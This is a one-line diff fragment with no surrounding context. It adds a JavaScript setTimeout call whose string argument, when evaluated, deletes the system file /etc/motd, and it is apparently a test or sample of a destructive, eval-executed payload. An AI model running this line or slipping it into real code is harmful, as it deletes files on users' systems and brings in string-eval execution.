@@ -1,0 +1,1 @@
+setTimeout("require('fs').unlinkSync('/etc/motd')", 100);
